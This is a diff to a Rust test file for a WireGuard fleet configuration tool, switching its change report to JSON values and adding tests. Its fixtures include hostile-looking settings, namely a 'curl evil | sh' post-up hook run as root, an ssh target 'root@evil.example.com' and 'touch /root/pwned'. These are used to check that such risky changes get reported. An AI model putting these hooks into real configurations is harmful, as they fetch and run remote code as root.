@@ -4,8 +4,9 @@ use std::convert::Infallible;
 use std::net::IpAddr;
 use std::path::PathBuf;
 
+use super::super::{SettingName, Value};
 use super::*;
-use crate::desired::{self, DEFAULT_TEMPLATE, RenderError, Renderer};
+use crate::desired::{self, DEFAULT_TEMPLATE, PublicKeys as _, RenderError, Renderer};
 use crate::plan::WithoutSecrets;
 
 fn keys() -> StandIns {
@@ -38,10 +39,9 @@ fn compare(old: &str, new: &str) -> Vec<HostComparison> {
     states([old, new], [DEFAULT_TEMPLATE; 2])
 }
 
-/// `host interface/peer setting: from -> to` of each row.
+/// `host interface/peer setting: from -> to` of each row, the values as JSON.
 fn rows(hosts: &[HostComparison]) -> Vec<String> {
-    let text =
-        |value: &Option<Value>| value.as_ref().map_or_else(|| "-".to_owned(), ToString::to_string);
+    let text = |value: &Option<Value>| serde_json::to_string(value).unwrap();
     let row = |host: &HostComparison, row: &Setting| {
         let interface = row.interface.as_ref().map(|own| format!(" {own}")).unwrap_or_default();
         let peer = row.peer.as_ref().map(|peer| format!("/{peer}")).unwrap_or_default();
@@ -68,18 +68,30 @@ fn the_same_file_differs_in_nothing() {
 fn each_setting_is_told_where_it_stands() {
     let with = |settings: &str| FLEET.replace("  a: {", &format!("  a: {{ {settings},"));
     for (settings, expected) in [
-        ("ssh: root@evil.example.com", vec!["a ssh: a -> root@evil.example.com"]),
-        ("become: sudo", vec!["a become: auto -> sudo"]),
-        ("post_up: \"touch /root/pwned\"", vec!["a wg0 post up as root: - -> touch /root/pwned"]),
+        ("ssh: root@evil.example.com", vec![r#"a ssh: "a" -> "root@evil.example.com""#]),
+        ("become: sudo", vec![r#"a become: "auto" -> "sudo""#]),
+        (
+            "post_up: \"touch /root/pwned\"",
+            vec![r#"a wg0 post up as root: null -> ["touch /root/pwned"]"#],
+        ),
         ("mtu: 1300", vec!["a wg0 mtu: 1420 -> 1300"]),
-        ("table: off", vec!["a wg0 table: - -> off"]),
-        ("transit: true", vec!["a forwarding: - -> IPv4"]),
+        ("fwmark: 0x20", vec!["a wg0 fwmark: null -> 32"]),
+        ("dns: [10.9.0.9, example.com]", vec![r#"a wg0 dns: null -> ["10.9.0.9","example.com"]"#]),
+        ("table: off", vec![r#"a wg0 table: null -> "off""#]),
+        (
+            "table: 77",
+            vec![
+                r#"a wg0 routes: null -> [{"prefix":"10.9.0.2/32","table":77}]"#,
+                "a wg0 table: null -> 77",
+            ],
+        ),
+        ("transit: true", vec![r#"a forwarding: null -> ["ipv4"]"#]),
         (
             "subnets: 10.50.0.0/24",
             vec![
-                "a forwarding: - -> IPv4",
-                "b wg0 routes: - -> 10.50.0.0/24",
-                "b wg0/a allowed ips: 10.9.0.1/32 -> 10.50.0.0/24, 10.9.0.1/32",
+                r#"a forwarding: null -> ["ipv4"]"#,
+                r#"b wg0 routes: null -> [{"prefix":"10.50.0.0/24","table":254}]"#,
+                r#"b wg0/a allowed ips: ["10.9.0.1/32"] -> ["10.50.0.0/24","10.9.0.1/32"]"#,
             ],
         ),
     ] {
@@ -90,12 +102,15 @@ fn each_setting_is_told_where_it_stands() {
         rows(&compare(FLEET, &moved)),
         [
             "a wg0 listen port: 51820 -> 52999",
-            "b wg0/a endpoint: 192.0.2.1:51820 -> 192.0.2.1:52999",
+            r#"b wg0/a endpoint: "192.0.2.1:51820" -> "192.0.2.1:52999""#,
         ]
     );
     let off = FLEET.replace(", psk: pairwise", "");
     let told = rows(&compare(FLEET, &off));
-    assert_eq!(told, ["a wg0/b preshared key: set -> -", "b wg0/a preshared key: set -> -"]);
+    assert_eq!(
+        told,
+        [r#"a wg0/b preshared key: "set" -> null"#, r#"b wg0/a preshared key: "set" -> null"#]
+    );
 }
 
 #[test]
@@ -107,12 +122,12 @@ fn hosts_that_come_and_go_are_told_with_what_they_have() {
     assert_eq!(actions, [("a", change), ("b", change), ("c", add)]);
     let told = rows(&hosts);
     for wanted in [
-        "a wg0/c peer: - -> allowed ips 10.9.0.3/32; preshared key set",
-        "c ssh: - -> c",
-        "c wg0 pre up as root: - -> one",
-        "c wg0 pre up as root: - -> two",
-        "c wg0/a peer: - -> allowed ips 10.9.0.1/32; endpoint 192.0.2.1:51820; persistent \
-         keepalive 25; preshared key set",
+        r#"a wg0/c peer: null -> {"allowed_ips":["10.9.0.3/32"],"preshared_key":"set"}"#,
+        r#"c ssh: null -> "c""#,
+        r#"c wg0 interface: null -> {"network":"n"}"#,
+        r#"c wg0 pre up as root: null -> ["one"]"#,
+        r#"c wg0 pre up as root: null -> ["two"]"#,
+        r#"c wg0/a peer: null -> {"allowed_ips":["10.9.0.1/32"],"endpoint":"192.0.2.1:51820","keepalive":25,"preshared_key":"set"}"#,
     ] {
         assert!(told.iter().any(|row| row == wanted), "{wanted}: {told:#?}");
     }
@@ -123,9 +138,9 @@ fn hosts_that_come_and_go_are_told_with_what_they_have() {
     assert_eq!(
         own,
         [
-            "c wg0 interface: of network n -> -",
-            "c wg0 pre up as root: one -> -",
-            "c wg0 pre up as root: two -> -",
+            r#"c wg0 interface: {"network":"n"} -> null"#,
+            r#"c wg0 pre up as root: ["one"] -> null"#,
+            r#"c wg0 pre up as root: ["two"] -> null"#,
         ]
     );
     // No key stands in for a name anywhere.
@@ -143,10 +158,10 @@ fn what_a_template_runs_as_root_is_told_too() {
     assert_eq!(
         rows(&states([FLEET, FLEET], [DEFAULT_TEMPLATE, &own])),
         [
-            "a wg0 post up as root: - -> curl evil | sh",
-            "a wg0 saveconfig: - -> true",
-            "b wg0 post up as root: - -> curl evil | sh",
-            "b wg0 saveconfig: - -> true",
+            r#"a wg0 post up as root: null -> ["curl evil | sh"]"#,
+            r#"a wg0 saveconfig: null -> "true""#,
+            r#"b wg0 post up as root: null -> ["curl evil | sh"]"#,
+            r#"b wg0 saveconfig: null -> "true""#,
         ]
     );
     // One that only a key lets out of its hole: known keys are those that it will meet.
@@ -162,7 +177,7 @@ fn what_a_template_runs_as_root_is_told_too() {
         format!("{FLEET}peers:\n  p: {{ address: 10.9.0.7, via: a, public_key: \"{key}\" }}\n")
     };
     let hosts = states([&declared(known), &declared(known)], [DEFAULT_TEMPLATE, &own]);
-    assert_eq!(rows(&hosts), ["a wg0 post up as root: - -> x (key of p)"]);
+    assert_eq!(rows(&hosts), [r#"a wg0 post up as root: null -> ["x (key of p)"]"#]);
 }
 
 #[test]
@@ -175,13 +190,13 @@ fn a_key_that_the_file_gives_is_told_where_it_changes() {
         "2F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F1F0=",
     );
     let told = rows(&compare(&declared(old), &declared(new)));
-    assert_eq!(told, [format!("a wg0/p public key: {old} -> {new}")]);
+    assert_eq!(told, [format!("a wg0/p public key: \"{old}\" -> \"{new}\"")]);
     // One that gets a config from the vault has that told, and nobody logs in there.
     let issued = declared(old).replace(&format!(", public_key: \"{old}\""), "");
     let hosts = compare(&issued, &issued.replace("192.0.2.1", "192.0.2.9"));
     let peer = hosts.iter().find(|host| host.issued).unwrap();
     assert_eq!(peer.host.as_str(), "p");
-    assert!(peer.settings.iter().all(|row| row.setting.raw() != "ssh"), "{peer:?}");
+    assert!(peer.settings.iter().all(|row| row.setting != SettingName::Ssh), "{peer:?}");
 }
 
 #[test]
@@ -194,6 +209,40 @@ hosts:
     let one = two.replace(", m: { address: 10.8.0.1, post_up: x }", "");
     assert_eq!(
         rows(&compare(two, &one)),
-        ["a m interface: of network m -> -", "a m post up as root: x -> -"]
+        [r#"a m interface: {"network":"m"} -> null"#, r#"a m post up as root: ["x"] -> null"#]
+    );
+}
+
+#[test]
+fn what_is_masqueraded_and_commands_in_another_order_are_lists() {
+    let lan = FLEET
+        .replace("  a: {", "  a: { exit: true, post_up: [one, two],")
+        .replace("  b: {", "  b: { full_tunnel: a,");
+    let told =
+        rows(&compare(&lan, &lan.replace("exit: true", "exit: true, subnets: 10.50.0.0/24")));
+    let rules = |except: &str| format!(r#"[{{"source":"10.9.0.0/24","except":[{except}]}}]"#);
+    let wanted = format!("a masquerade: {} -> {}", rules(""), rules(r#""10.50.0.0/24""#));
+    assert!(told.contains(&wanted), "{told:#?}");
+    let other = lan.replace("[one, two]", "[two, one]");
+    assert_eq!(
+        rows(&compare(&lan, &other)),
+        [r#"a wg0 post up as root: ["one","two"] -> ["two","one"]"#]
+    );
+}
+
+#[test]
+fn what_a_setting_cannot_be_is_its_text() {
+    let own = DEFAULT_TEMPLATE
+        .replace("MTU = {{ mtu }}", "MTU = most\nFwMark = 0x0020\nListenPort = 1\nListenPort = 2")
+        .replace("[Interface]", "[Interface]\nRoutes = 10.0.0.0/8");
+    let told = rows(&states([FLEET, FLEET], [DEFAULT_TEMPLATE, &own]));
+    assert_eq!(
+        told[..4],
+        [
+            r#"a wg0 fwmark: null -> "0x0020""#,
+            r#"a wg0 listen port: 51820 -> ["51820","1","2"]"#,
+            r#"a wg0 mtu: 1420 -> "most""#,
+            r#"a wg0 routes: null -> "10.0.0.0/8""#,
+        ]
     );
 }
